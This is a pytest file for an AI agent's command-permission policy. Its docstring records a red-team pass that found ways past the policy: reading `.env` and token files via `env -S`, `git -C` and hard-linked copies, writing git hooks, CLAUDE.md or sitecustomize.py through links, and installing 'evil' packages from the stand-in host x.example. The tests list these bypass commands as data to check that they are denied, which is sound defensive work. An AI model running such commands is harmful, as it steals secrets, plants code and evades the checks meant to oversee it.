"""Thirteenth red-team pass (command policy, 2026-12-04), issue 10: what it found and closed.

Each class was shown by effect in a scratch directory (docs/policy.md, "Thirteenth pass"):

* (a) class 9: token files a mature tool treats as secret were matched only at the top or
  not at all: Composer's `auth.json` beside any composer.json (`packages/x/auth.json`,
  `sub/app/auth.json`, a COMPOSER_HOME such as `ci/composer/auth.json`; Laravel's .gitignore
  ignores the name at every depth), Google OAuth's `token.json`/`token.pickle`, dynaconf's
  `.secrets.*`, Playwright storage states under `playwright/.auth/`, Terraform state by any
  name. `cat packages/x/auth.json` printed the token.
* (b) class 5: a dependency from a URL, VCS remote or a path out of the workspace, declared in
  a project file (`x @ git+https://…` in pyproject.toml or requirements*.txt, `{ git = … }`
  sources, `"x": "github:u/r"` in package.json) was installed by `pip install .`, `uv sync`,
  `npm install`, `uv pip sync FILE`, `pip-compile FILE`, while the same source on the command
  line is denied. Installs that read one ask now; a line that writes one into a Python project
  or requirements file is denied. Shown with pip: `x @ file:///outside/x.whl` in
  requirements.txt installed a wheel whose `.pth` ran at the next python start.
* (c) class 8/9: `cp -r DIR`/`rsync -a DIR` copied a hard link of `.env` inside DIR to a new
  file with one link and the secret's content: `cp -r vendor out; cat out/bar/data.txt`
  printed the secret (the name check and the twin check both passed).
* (d) class 8/11: protected files inside vendor directories (`.venv/…/sitecustomize.py`,
  `site-packages/*.pth`, `.venv/bin/activate`) were not compared with a written file's hard
  links: `echo … >> src/notes.py` appended code to sitecustomize.py (shown: it ran).
* (e) class 4: GNU env puts the words of `-S STRING` in place and parses on: `env -S'cat' .env`
  runs `cat .env`; the policy read `.env` as another program (asked) and `env -S tee
  CLAUDE.md` as `tee` plus a program named CLAUDE.md.
* (f) class 11/4: gh's downloads write files the remote names (by gh's manual: a run's
  artifacts under `.` or `-D DIR`, a release's assets, `-O FILE`, `gist clone ID DIR`); the
  spec took every option as a literal, so `gh run download 5 -D .github` and `gh release
  download v1 -O CLAUDE.md` were allowed. The paths are writes now, downloads/checkouts/gist
  uploads ask, and a catch-all `-*` no longer swallows `-D.github` (an attached value).
* (g) host availability: `nice -n -20`, `chrt 99` (SCHED_RR) and `ionice -c1` raise a
  command's priority, which root on the host may (shown: `nice -n -10 nice` printed -10, `chrt
  -r 99` ran at SCHED_RR 99); only lowering values are accepted.
* (h) class 8/4: `git mv` of a link (or a directory holding one) did not count as making links
  (`git mv docs d2; echo x > d2/hooks/pre-commit` wrote a hook through `docs/hooks ->
  ../.git/hooks`), and `git -C . checkout …` hid the subcommand from that check (`git -C .
  checkout x -- docs; cat docs/newfile` printed `.env`); both shown with git 2.39.5.
* (i) class 9/4: `git -C status show HEAD:.env` printed the secret (the value `status` was
  read as the name-only subcommand `status`), and `git -C sub diff --no-index ../.env
  /dev/null`, `git -C sub log -p -- ../.env` resolved `../.env` from the starting directory.
* (j) class 8: `python3 -m venv d; echo x > d/bin/python3` wrote through the new venv's link
  to the base interpreter, out of the workspace (shown: ETXTBSY on the running interpreter).
* (k) class 8: a file hard-linked to a file outside the workspace (uv's cache links into
  .venv, pnpm's store into node_modules) was written through: `echo x >> .venv/…/__init__.py`
  changed the cache's copy (shown with a scratch cache).
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import time
from pathlib import Path

import pytest

from enforcement_agent.models import ToolRequest, Verdict
from enforcement_agent.policy import Policy
from tests.policy.verdicts import exec_verdict as _decide

_CP = shutil.which("cp")


@pytest.fixture(scope="module")
def policy(default_policy: Policy) -> Policy:
    return default_policy  # the shipped policy, compiled once per session (conftest.py)


def _file(policy: Policy, ws: Path, action: str, path: str) -> tuple[Verdict, str]:
    req = ToolRequest(tenant="acme", actor="a", role="contributor", tool=action, path=path)
    d = policy.decide(req, ws)
    return d.decision, d.rule


def _write(root: Path, files: dict[str, str]) -> None:
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)


# ---- (a) token files at any depth ---------------------------------------------------------------

TOKEN_FILES = [
    "packages/x/auth.json", "sub/app/auth.json", "apps/api/auth.json", "ci/composer/auth.json",
    "php/auth.json", "auth.json", "backend/AUTH.json", "token.json", "scripts/token.json",
    "tools/gmail/token.pickle", "config/.secrets.toml", ".secrets.yaml", "app/.secrets.json",
    "playwright/.auth/user.json", "e2e/playwright/.auth/admin.json", "prod.tfstate",
    "infra/envs/prod/prod.tfstate", "infra/x.tfstate.backup", "state/default.tfstate",
    ".containers/auth.json",
]  # fmt: skip
READERS = ["cat {}", "rev {}", "base64 {}", "xxd {}", "cp {} out.txt", "grep -c . {}",
           "head -n 3 {}", "jq . {}", "awk 1 {}", "sed -n p {}"]  # fmt: skip


@pytest.fixture(scope="module")
def tokens_ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("thirteenth-tokens") / "ws"
    root.mkdir()
    _write(root, {rel: '{"http-basic": {"x": {"password": "rt13"}}}\n' for rel in TOKEN_FILES})
    _write(root, {"composer.json": "{}\n", "locales/en/auth.yaml": "x\n", "src/tokens.json": "{}\n",
                  "src/tokenizer.json": "{}\n", "settings.toml": "x\n", "main.tf": "x\n",
                  "notes.md": "x\n"})  # fmt: skip
    return root


@pytest.mark.parametrize("rel", TOKEN_FILES)
@pytest.mark.parametrize("shape", READERS)
def test_token_files_are_secret_at_any_depth(
    policy: Policy, tokens_ws: Path, rel: str, shape: str
) -> None:
    verdict, rule = _decide(policy, tokens_ws, shape.format(rel))
    assert verdict is Verdict.DENY, (shape, rel)
    assert rule == "exec.secret-file", (shape, rel, rule)


@pytest.mark.parametrize("rel", TOKEN_FILES)
def test_token_files_are_secret_to_the_file_tools(
    policy: Policy, tokens_ws: Path, rel: str
) -> None:
    assert _file(policy, tokens_ws, "read", rel)[0] is Verdict.DENY, rel


@pytest.mark.parametrize(
    "command",
    ["grep -r password .", "rg password", "tar czf out.tgz packages", "zip -r out.zip sub",
     "cp -r packages copy", "find . -name '*.json' -exec cat {} +", "cat */*/auth.json",
     "cat packages/*/auth.json", "git add -f packages/x/auth.json"],
)  # fmt: skip
def test_token_files_in_trees(policy: Policy, tokens_ws: Path, command: str) -> None:
    assert _decide(policy, tokens_ws, command)[0] is Verdict.DENY, command


@pytest.mark.parametrize(
    "rel", ["composer.json", "locales/en/auth.yaml", "src/tokens.json", "src/tokenizer.json",
            "settings.toml", "main.tf", "notes.md"],
)  # fmt: skip
def test_neighbours_of_token_files_stay_readable(policy: Policy, tokens_ws: Path, rel: str) -> None:
    assert _decide(policy, tokens_ws, f"cat {rel}")[0] is Verdict.ALLOW, rel


# ---- (b) dependencies from URLs, VCS remotes and paths out, declared in project files ----------

PY_REMOTE = [
    "evil @ git+https://x.example/evil",
    "evil @ https://x.example/evil-1.0-py3-none-any.whl",
    "evil[extra] @ git+ssh://git@x.example/evil.git",
    "evil @ file:///tmp/evil",
    "evil @ hg+https://x.example/evil",
    "evil @ svn+https://x.example/evil",
    "evil@https://x.example/evil.tar.gz",
]
TOML_SOURCES = [
    'evil = { git = "https://x.example/evil" }',
    'evil = { url = "https://x.example/evil.whl" }',
    'evil = {path = "/opt/evil"}',
    'evil = { path = "../../outside" }',
    'evil = { file = "https://x.example/evil.tgz" }',
]
NPM_REMOTE = [
    "github:evil/x", "evil/x", "evil/x#main", "git+https://x.example/evil.git",
    "git://x.example/evil.git", "git+ssh://git@x.example/evil.git", "https://x.example/evil.tgz",
    "http://x.example/evil.tgz", "gitlab:evil/x", "bitbucket:evil/x", "gist:abc123",
    "file:../../outside", "link:/opt/evil", "/opt/evil", "npm:evil@https://x.example/e.tgz",
]  # fmt: skip


@pytest.fixture()
def proj(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    root.mkdir()
    (root / "notes.md").write_text("x\n")
    return root


def _pyproject(deps: list[str], extra: str = "") -> str:
    quoted = ", ".join(f'"{d}"' for d in deps)
    return (
        '[project]\nname = "demo"\nversion = "0"\n'
        'authors = [{ name = "a", email = "a@example.com" }]\n'
        f"dependencies = [{quoted}]\n{extra}"
    )


PY_INSTALLS = ["pip install .", "pip install -e .", "pip install -e '.[dev]'", "pip wheel .",
               "uv pip install .", "uv sync", "uv lock", "uv run pytest", "uv add httpx",
               "poetry install", "poetry lock", "pip-compile pyproject.toml",
               "uv pip compile pyproject.toml"]  # fmt: skip


@pytest.mark.parametrize("dep", PY_REMOTE)
@pytest.mark.parametrize("command", PY_INSTALLS)
def test_pyproject_remote_dependency_asks(
    policy: Policy, proj: Path, dep: str, command: str
) -> None:
    (proj / "pyproject.toml").write_text(_pyproject(["requests>=2", dep]))
    verdict, rule = _decide(policy, proj, command)
    assert verdict is not Verdict.ALLOW, (command, dep)


@pytest.mark.parametrize("source", TOML_SOURCES)
@pytest.mark.parametrize("command", ["uv sync", "poetry install", "pip install .", "uv lock"])
def test_pyproject_source_tables_ask(policy: Policy, proj: Path, source: str, command: str) -> None:
    (proj / "pyproject.toml").write_text(_pyproject(["evil"], f"[tool.uv.sources]\n{source}\n"))
    assert _decide(policy, proj, command) == (Verdict.ASK, "exec.packages.project-source"), command


@pytest.mark.parametrize("source", TOML_SOURCES)
def test_pipfile_sources_ask(policy: Policy, proj: Path, source: str) -> None:
    (proj / "Pipfile").write_text(
        '[[source]]\nurl = "https://pypi.org/simple"\nname = "pypi"\n\n[packages]\n'
        f'{source}\nrequests = "*"\n'
    )
    assert _decide(policy, proj, "pipenv install") == (Verdict.ASK, "exec.packages.project-source")


@pytest.mark.parametrize(
    "dep",
    PY_REMOTE
    + [
        "git+https://x.example/evil",
        "-i https://x.example/s",
        "--extra-index-url https://x.example/s",
        "-e git+https://x.example/e#egg=e",
    ],
)
@pytest.mark.parametrize(
    "command",
    [
        "uv pip sync reqs.in",
        "uv pip compile reqs.in",
        "pip-compile reqs.in",
        "uv pip sync requirements/base.txt",
    ],
)
def test_positional_requirement_files_are_read(
    policy: Policy, proj: Path, dep: str, command: str
) -> None:
    for rel in ("reqs.in", "requirements/base.txt"):
        (proj / rel).parent.mkdir(parents=True, exist_ok=True)
        (proj / rel).write_text(f"requests\n{dep}\n")
    assert _decide(policy, proj, command)[0] is Verdict.DENY, (command, dep)


NPM_INSTALLS = ["npm install", "npm i", "npm ci", "npm install --save-dev", "pnpm install",
                "pnpm i", "yarn", "yarn install", "bun install", "npm update"]  # fmt: skip


@pytest.mark.parametrize("spec", NPM_REMOTE)
@pytest.mark.parametrize("command", NPM_INSTALLS)
def test_package_json_remote_dependency_asks(
    policy: Policy, proj: Path, spec: str, command: str
) -> None:
    (proj / "package.json").write_text(
        json.dumps({"name": "demo", "dependencies": {"lodash": "^4.17.21", "evil": spec}})
    )
    assert _decide(policy, proj, command)[0] is not Verdict.ALLOW, (command, spec)


@pytest.mark.parametrize("section", ["devDependencies", "optionalDependencies", "peerDependencies",
                                     "overrides", "resolutions"])  # fmt: skip
def test_package_json_sections(policy: Policy, proj: Path, section: str) -> None:
    (proj / "package.json").write_text(json.dumps({"name": "d", section: {"evil": "github:e/x"}}))
    assert _decide(policy, proj, "npm install") == (Verdict.ASK, "exec.packages.project-source")


def test_package_json_workspace_member(policy: Policy, proj: Path) -> None:
    _write(proj, {"package.json": '{"name": "d", "workspaces": ["packages/*"]}',
                  "packages/a/package.json": '{"name": "a", "dependencies": {"x": "^1"}}',
                  "packages/b/package.json": '{"name": "b", "dependencies": {"e": "e/x"}}'})  # fmt: skip
    assert _decide(policy, proj, "npm install") == (Verdict.ASK, "exec.packages.project-source")
    assert _decide(policy, proj, "cd packages/b && npm install")[0] is Verdict.ASK


@pytest.mark.parametrize(
    "command",
    ["echo 'evil @ git+https://x.example/e' >> requirements.txt",
     "echo 'evil @ https://x.example/e.whl' > requirements-dev.txt",
     "printf 'git+https://x.example/e\\n' >> requirements/base.in",
     "echo 'x @ file:///tmp/x.whl' >> constraints.txt",
     "echo 'dependencies = [\"e @ git+https://x.example/e\"]' >> pyproject.toml",
     "echo 'e = { git = \"https://x.example/e\" }' >> pyproject.toml",
     "echo 'e = {url = \"https://x.example/e.whl\"}' | tee -a pyproject.toml",
     "echo 'e = { git = \"https://x.example/e\" }' >> Pipfile",
     "sed -i 's|^requests|e @ https://x.example/e.whl|' requirements.txt",
     "printf 'e @ hg+https://x.example/e\\n' >> sub/requirements.txt",
     "cat > requirements.txt <<'EOF'\nrequests\ne @ git+https://x.example/e\nEOF",
     "echo 'install_requires = e @ https://x.example/e.whl' >> setup.cfg"],
)  # fmt: skip
def test_writing_a_remote_dependency_is_denied(policy: Policy, proj: Path, command: str) -> None:
    (proj / "requirements.txt").write_text("requests\n")
    assert _decide(policy, proj, command) == (Verdict.DENY, "exec.packages.project-source"), command


@pytest.mark.parametrize(
    "command",
    ["pip install .", "pip install -e .", "uv sync", "poetry install", "npm install", "npm ci",
     "yarn", "pnpm install", "pip install requests", "npm install lodash",
     "echo 'httpx>=0.27' >> requirements.txt", "echo 'email = \"a@example.com\"' >> pyproject.toml",
     "echo 'see x @ https://x.example' >> notes.md", "uv pip sync requirements.txt",
     "pip-compile requirements.txt", "cd sub && npm install"],
)  # fmt: skip
def test_project_file_controls(policy: Policy, proj: Path, command: str) -> None:
    _write(proj, {
        "pyproject.toml": _pyproject(["requests>=2", "local-lib"],
                                     '[tool.uv.sources]\nlocal-lib = { path = "libs/local" }\n'
                                     '[project.urls]\nHomepage = "https://x.example"\n'),
        "libs/local/pyproject.toml": _pyproject([]),
        "requirements.txt": "requests==2.32.3\n./libs/local\n",
        "package.json": '{"name": "d", "repository": {"url": "git+https://github.com/a/b.git"},'
                        ' "dependencies": {"lodash": "^4", "y": "npm:@scope/y@^1", '
                        '"w": "workspace:*", "l": "file:./libs/js", "t": "latest"}}',
        "sub/package.json": '{"name": "s", "dependencies": {"p": "file:../libs/js"}}',
    })  # fmt: skip
    assert _decide(policy, proj, command)[0] is Verdict.ALLOW, command


# ---- (c) tree copies carry a hard link of a secret to a new file --------------------------------


@pytest.fixture()
def linked(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    _write(root, {".env": "MARKER=rt13hl\n", "notes.md": "x\n", "docs/index.md": "x\n"})
    for rel in ("vendor/bar/data.txt", "node_modules/foo/README", "src/deep/x.txt",
                ".venv/lib/python3.11/site-packages/pkg/LICENSE", "third_party/a/b/c.txt"):  # fmt: skip
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        os.link(root / ".env", root / rel)
    return root


COPIES = ["cp -r {} out", "cp -R {} out", "cp -a {} out", "cp -rL {} out", "cp -r {}/ out/",
          "rsync -a {}/ out/", "rsync -r {} out", "cp -rp {} out", "busybox cp -r {} out",
          "cp --recursive {} out"]  # fmt: skip


@pytest.mark.parametrize("tree", ["vendor", "node_modules", "src", "third_party/a", ".venv"])
@pytest.mark.parametrize("shape", COPIES)
def test_tree_copy_of_a_secret_twin_is_denied(
    policy: Policy, linked: Path, tree: str, shape: str
) -> None:
    verdict, rule = _decide(policy, linked, shape.format(tree))
    assert verdict is Verdict.DENY, (shape, tree)


def test_tree_copy_twin_by_effect(policy: Policy, linked: Path) -> None:
    """What the decision prevents: the copy is a new file with one link and the secret."""
    if _CP is None:
        pytest.skip("cp is not installed")
    assert _decide(policy, linked, "cp -r vendor out")[0] is Verdict.DENY
    subprocess.run([_CP, "-r", "vendor", "out"], cwd=linked, check=True)
    copied = linked / "out/bar/data.txt"
    assert copied.read_text() == "MARKER=rt13hl\n" and copied.stat().st_nlink == 1
    assert _decide(policy, linked, "cat out/bar/data.txt")[0] is Verdict.ALLOW  # too late then


@pytest.mark.parametrize("command", ["cp -r docs out", "rsync -a docs/ out/", "mv vendor moved",
                                     "cp notes.md out.md", "cp -r docs docs2"])  # fmt: skip
def test_tree_copy_controls(policy: Policy, linked: Path, command: str) -> None:
    assert _decide(policy, linked, command)[0] is Verdict.ALLOW, command


# ---- (d) protected files in vendor directories, written through a hard link ---------------------

VENDOR_PROTECTED = [
    ".venv/lib/python3.11/site-packages/sitecustomize.py",
    ".venv/lib/python3.11/site-packages/usercustomize.py",
    ".venv/lib/python3.11/site-packages/evil.pth",
    ".venv/bin/activate",
    ".venv/bin/activate.fish",
    ".venv/pyvenv.cfg",
    "venv/lib/python3.12/site-packages/x.pth",
    ".tox/py/lib/python3.11/site-packages/sitecustomize.py",
    "node_modules/.cache/x/.github/workflows/ci.yml",
    "node_modules/pkg/CLAUDE.md",
]
WRITES = ["echo x >> {}", "echo x > {}", "cp notes.md {}", "tee -a {} < notes.md",
          "sed -i 1d {}", "truncate -s 0 {}", "printf x | dd of={} conv=notrunc",
          "sort -o {} notes.md"]  # fmt: skip


@pytest.fixture()
def vendor_ws(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    _write(root, {"notes.md": "x\n", **{rel: "print(1)\n" for rel in VENDOR_PROTECTED}})
    for n, rel in enumerate(VENDOR_PROTECTED):
        (root / f"src/twin{n}.py").parent.mkdir(parents=True, exist_ok=True)
        os.link(root / rel, root / f"src/twin{n}.py")
    (root / "src/plain.py").write_text("x\n")
    return root


@pytest.mark.parametrize("n", range(len(VENDOR_PROTECTED)))
@pytest.mark.parametrize("shape", WRITES)
def test_write_to_twin_of_vendor_protected_file(
    policy: Policy, vendor_ws: Path, n: int, shape: str
) -> None:
    verdict, rule = _decide(policy, vendor_ws, shape.format(f"src/twin{n}.py"))
    assert verdict is Verdict.DENY, (shape, VENDOR_PROTECTED[n])
    assert rule == "exec.protected-path", (shape, VENDOR_PROTECTED[n], rule)


@pytest.mark.parametrize("n", range(len(VENDOR_PROTECTED)))
def test_file_tool_write_to_twin_of_vendor_protected_file(
    policy: Policy, vendor_ws: Path, n: int
) -> None:
    assert _file(policy, vendor_ws, "write", f"src/twin{n}.py")[0] is Verdict.DENY


@pytest.mark.parametrize("command", ["echo x >> src/plain.py", "cat src/twin0.py", "rm src/twin1.py",
                                     "cp src/plain.py src/new.py", "ls -la src"])  # fmt: skip
def test_vendor_twin_controls(policy: Policy, vendor_ws: Path, command: str) -> None:
    assert _decide(policy, vendor_ws, command)[0] is Verdict.ALLOW, command


# ---- (e) env -S: the split words in place, the rest parsed on -----------------------------------

ENV_SPLIT = [
    "env -S'cat' .env", "env -S 'cat' .env", "env -S cat .env", "env -Scat .env",
    "env -iS cat .env", "env -iScat .env", "env -vS cat .env", "env --split-string=cat .env",
    "env --split-string cat .env", "env --sp=cat .env", "env --split=cat .env",
    "env -S '-i cat' .env", "env -S 'cat -A' .env", "env -S 'sh -c' 'cat .env'",
    "env -S tee CLAUDE.md", "env -S 'tee -a' .github/workflows/ci.yml", "env -S rm CLAUDE.md",
    "env -S 'cp notes.md' CLAUDE.md", "env -S 'python3' -c 'import os'", "env -S 'rm -rf' .github",
    "env -C sub -S cat ../.env", "env -S 'env -S cat' .env", "env -S 'xargs cat' .env",
]  # fmt: skip


@pytest.fixture(scope="module")
def env_ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("thirteenth-env") / "ws"
    _write(root, {".env": "MARKER=rt13\n", "notes.md": "x\n", "CLAUDE.md": "x\n",
                  ".github/workflows/ci.yml": "x\n", "sub/x": "x\n"})  # fmt: skip
    return root


@pytest.mark.parametrize("command", ENV_SPLIT)
def test_env_split_string_words_in_place(policy: Policy, env_ws: Path, command: str) -> None:
    assert _decide(policy, env_ws, command)[0] is Verdict.DENY, command


@pytest.mark.parametrize("command", ["env -S 'ls -la'", "env -S ls", "env -S 'git status'",
                                     "env -S cat notes.md", "env -S 'CI=1 make'",
                                     "env -iS 'LANG=C sort' notes.md", "env CI=1 npm test"])  # fmt: skip
def test_env_split_controls(policy: Policy, env_ws: Path, command: str) -> None:
    assert _decide(policy, env_ws, command)[0] is Verdict.ALLOW, command


def test_env_split_by_effect(tmp_path: Path) -> None:
    """GNU env -S puts its words in place: the operand after it is an argument, not a program."""
    env = shutil.which("env")
    if env is None:
        pytest.skip("env is not installed")
    (tmp_path / ".env").write_text("MARKER=rt13\n")
    out = subprocess.run([env, "-Scat", ".env"], cwd=tmp_path, capture_output=True, text=True)
    assert out.stdout == "MARKER=rt13\n"


# ---- (f) gh downloads write files the remote names -----------------------------------------------

GH_PROTECTED_TARGETS = [
    "gh run download 5 -D .github",
    "gh run download 5 -D .github/workflows",
    "gh run download 5 --dir=.github",
    "gh run download 5 --dir .git/hooks",
    "gh run download 5 -D.github",
    "gh run download -n dist -D .github/workflows",
    "gh run download 5 -D /tmp/rt13-out",
    "gh run download 5 -D../outside",
    "gh release download v1 -O CLAUDE.md",
    "gh release download v1 -OCLAUDE.md",
    "gh release download v1 --output=.git/hooks/pre-commit",
    "gh release download v1 --output AGENTS.md",
    "gh release download v1 -D .github/workflows",
    "gh release download v1 -p '*.yml' -D .github/workflows",
    "gh release download v1 --archive=zip -O .envrc",
    "gh release download -R evil/x v1 -D .git/hooks",
    "gh gist clone abc .github/workflows",
    "gh gist clone abc .git/hooks",
    "gh gist clone abc /tmp/rt13-gist",
    "gh attestation download x.tgz -R a/b -D .github",
]


@pytest.mark.parametrize("command", GH_PROTECTED_TARGETS)
def test_gh_download_into_protected_paths(policy: Policy, env_ws: Path, command: str) -> None:
    assert _decide(policy, env_ws, command)[0] is Verdict.DENY, command


GH_REMOTE_NAMED = [
    "gh run download 5", "gh run download", "gh run download 5 -n dist", "gh run download -D out",
    "gh release download v1", "gh release download v1 -p '*.tgz' -D dist", "gh release download",
    "gh pr checkout 12", "gh pr checkout 12 --force", "gh gist clone abc", "gh gist clone abc out",
    "gh gist create notes.md", "gh gist create --public notes.md", "gh gist create - < notes.md",
    "gh gist edit abc -a notes.md", "gh gist new notes.md", "gh release upload v1 notes.md",
    "gh attestation download x.tgz -R a/b", "gh -R evil/x release download v1",
    "gh release download v1 --clobber",
]  # fmt: skip


@pytest.mark.parametrize("command", GH_REMOTE_NAMED)
def test_gh_downloads_and_uploads_ask(policy: Policy, env_ws: Path, command: str) -> None:
    assert _decide(policy, env_ws, command)[0] is not Verdict.ALLOW, command


@pytest.mark.parametrize(
    "command",
    ["gh pr list", "gh pr view 12", "gh run view 5", "gh run view 5 --log", "gh run list -L5",
     "gh release list", "gh release view v1", "gh gist list", "gh gist view abc",
     "gh issue list -s open", "gh run watch 5", "gh pr status", "gh pr diff 12",
     "gh attestation verify x.tgz -R a/b"],
)  # fmt: skip
def test_gh_controls(policy: Policy, env_ws: Path, command: str) -> None:
    assert _decide(policy, env_ws, command)[0] is Verdict.ALLOW, command


# ---- (g) scheduling wrappers that raise a command's priority --------------------------------------

RAISED = [
    "nice -n -20 make", "nice -n -1 make", "nice -n-5 make", "nice --adjustment=-20 make",
    "nice --adjustment -5 make", "nice --adj=-5 make", "nice --10 make", "chrt 99 make",
    "chrt 1 make", "chrt -r 99 make", "chrt -f 1 make", "chrt --fifo 50 make", "chrt --rr 1 make",
    "chrt -o 1 make", "chrt -R -f 1 make", "chrt -d --sched-runtime 1 0 make",
    "ionice -c1 make", "ionice -c 1 -n 0 make", "ionice -c realtime make", "ionice --class=1 make",
    "ionice -c1 -t make", "timeout 60 nice -n -10 make", "nice -n 5 chrt -f 1 make",
    "env CI=1 ionice -c1 make",
]  # fmt: skip


@pytest.mark.parametrize("command", RAISED)
def test_raising_priority_is_denied(policy: Policy, env_ws: Path, command: str) -> None:
    assert _decide(policy, env_ws, command)[0] is Verdict.DENY, command


@pytest.mark.parametrize(
    "command",
    ["nice make", "nice -n 10 make", "nice -n 19 pytest -q", "nice -5 make", "nice -n +5 make",
     "chrt -b 0 make", "chrt -i 0 make", "chrt --idle 0 make", "ionice -c3 make",
     "ionice -c 2 -n 7 make", "ionice -c idle make", "ionice -t -c3 make",
     "nice -n 10 ionice -c3 make", "timeout 60 nice make"],
)  # fmt: skip
def test_lowering_priority_controls(policy: Policy, env_ws: Path, command: str) -> None:
    assert _decide(policy, env_ws, command)[0] is Verdict.ALLOW, command


def test_raised_priority_by_effect() -> None:
    """As root (a hook on the host), `nice -n -10` takes a negative niceness."""
    nice = shutil.which("nice")
    if nice is None or os.geteuid() != 0:
        pytest.skip("needs nice and root")
    out = subprocess.run([nice, "-n", "-10", nice], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "-10"


# ---- (h) git mv of a link, and git's own options before a checkout ---------------------------------


@pytest.fixture(scope="module")
def linked_repo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("thirteenth-gitmv") / "ws"
    _write(root, {".git/hooks/x": "x\n", "CLAUDE.md": "x\n", ".env": "S=1\n", "notes.md": "x\n",
                  "src/app.py": "x\n"})  # fmt: skip
    (root / "docs").mkdir()
    os.symlink("../.git/hooks", root / "docs/hooks")
    os.symlink("../CLAUDE.md", root / "docs/cl.md")
    return root


GIT_LINK_LINES = [
    "git mv docs d2; echo x > d2/hooks/pre-commit",
    "git mv docs d2 && touch d2/hooks/post-checkout",
    "git mv -f docs d2; cp notes.md d2/hooks/pre-push",
    "git mv -k docs d2; tee d2/hooks/x < notes.md",
    "git mv docs src/; echo x > src/docs/hooks/pre-commit",
    "git mv docs/hooks h2; echo x > h2/pre-commit",
    "git mv docs/cl.md n.md; echo x >> n.md",
    "git -C . mv docs d2; echo x > d2/hooks/pre-commit",
    "git -c core.quotepath=off mv docs d2; echo x > d2/hooks/x",
    "git -C . checkout x -- docs; cat docs/newfile",
    "git -C . checkout x; cat docs/newfile",
    "git -C . switch x; echo x > d3/y",
    "git -C . restore -s x docs; cat docs/newfile",
    "git -C . stash pop; cat docs/newfile",
    "git -C . reset --hard x; cat docs/newfile",
    "git -C . merge x; cat docs/newfile",
    "git -C . cherry-pick x; cat docs/newfile",
    "git -C . worktree add w x; cat w/docs/newfile",
    "git -c core.quotepath=off checkout x; cat docs/newfile",
    "git -C . -c core.quotepath=off checkout x; echo x > docs/newfile",
    "git --no-pager -C . checkout x; cat docs/newfile",
]


@pytest.mark.parametrize("command", GIT_LINK_LINES)
def test_git_link_makers_then_paths(policy: Policy, linked_repo: Path, command: str) -> None:
    assert _decide(policy, linked_repo, command)[0] is Verdict.DENY, command


@pytest.mark.parametrize(
    "command",
    ["git mv notes.md n2.md", "git mv notes.md n2.md; cat n2.md", "git -C . status",
     "git -C . log --oneline -5", "git mv src/app.py src/main.py && git status",
     "git -C . diff", "git mv docs d2"],
)  # fmt: skip
def test_git_link_controls(policy: Policy, linked_repo: Path, command: str) -> None:
    assert _decide(policy, linked_repo, command)[0] is Verdict.ALLOW, command


def test_git_mv_link_by_effect(tmp_path: Path) -> None:
    """`git mv` of a directory holding a relative link to `.git/hooks` keeps it pointing there."""
    git = shutil.which("git")
    if git is None:
        pytest.skip("git is not installed")
    root = tmp_path / "ws"
    (root / "docs").mkdir(parents=True)
    subprocess.run([git, "init", "-q", str(root)], check=True)
    os.symlink("../.git/hooks", root / "docs/hooks")
    g = [git, "-C", str(root), "-c", "user.email=a@b", "-c", "user.name=a"]
    subprocess.run([*g, "add", "docs"], check=True)
    subprocess.run([*g, "commit", "-qm", "one"], check=True)
    subprocess.run([*g, "mv", "docs", "d2"], check=True)
    (root / "d2/hooks/pre-commit").write_text("#!/bin/sh\n")
    assert (root / ".git/hooks/pre-commit").exists()


# ---- (i) git -C DIR: the subcommand and the paths are read past it --------------------------------


@pytest.fixture(scope="module")
def env_repo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("thirteenth-gitc") / "ws"
    root.mkdir()
    for d in ("status", "rm", "ls-files", "check-ignore", "check-attr", "sub/deep"):
        (root / d).mkdir(parents=True)
        (root / d / "keep.txt").write_text("x\n")
    (root / "notes.md").write_text("x\n")
    if shutil.which("git"):
        git = ["git", "-C", str(root), "-c", "user.email=a@b", "-c", "user.name=a"]
        subprocess.run(["git", "init", "-q", str(root)], check=True)
        (root / ".env").write_text("MARKER=rt13c\n")
        subprocess.run([*git, "add", "-f", "."], check=True)
        subprocess.run([*git, "commit", "-qm", "one"], check=True)
    return root


GIT_C_READS = [
    "git -C status show HEAD:.env", "git -C rm show HEAD:.env", "git -C ls-files show HEAD:.env",
    "git -C check-ignore cat-file -p HEAD:.env", "git -C check-attr show HEAD:.env",
    "git -C status cat-file blob HEAD:.env", "git -C status --no-pager show HEAD:.env",
    "mkdir -p status; git -C status show HEAD:.env", "git -C status show :../.env",
    "git -C status diff --no-index ../.env /dev/null",
    "git -C status diff --no-index -- ../.env notes.md", "git -C status log -p -- ../.env",
    "git -C status log -p -- ../", "git -C sub/deep log -p -- ../../.env",
    "git -C sub -C deep diff --no-index ../../.env /dev/null", "git -C status -C .. log -p -- .env",
    "git -C sub/deep grep -h MARKER -- ../../.env", "git -C status blame ../.env",
    "git -c core.quotepath=off -C status show HEAD:.env", "git -C status show HEAD -- ../.env",
]  # fmt: skip


@pytest.mark.parametrize("command", GIT_C_READS)
def test_git_dash_c_secret_reads(policy: Policy, env_repo: Path, command: str) -> None:
    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    assert _decide(policy, env_repo, command)[0] is Verdict.DENY, command


@pytest.mark.parametrize(
    "command",
    ["git -C status status", "git -C . log --oneline", "git -C status log -p -- .",
     "git -C status log -p -- keep.txt", "git -C status diff --no-index keep.txt ../notes.md",
     "git -C sub/deep status", "git status .env", "git ls-files .env", "git rm --cached .env"],
)  # fmt: skip
def test_git_dash_c_controls(policy: Policy, env_repo: Path, command: str) -> None:
    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    assert _decide(policy, env_repo, command)[0] is Verdict.ALLOW, command


def test_git_dash_c_by_effect(env_repo: Path) -> None:
    """`git -C status show HEAD:.env` prints the committed secret (status/ is any directory)."""
    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    out = subprocess.run(["git", "-C", str(env_repo / "status"), "show", "HEAD:.env"],
                         capture_output=True, text=True, check=True)  # fmt: skip
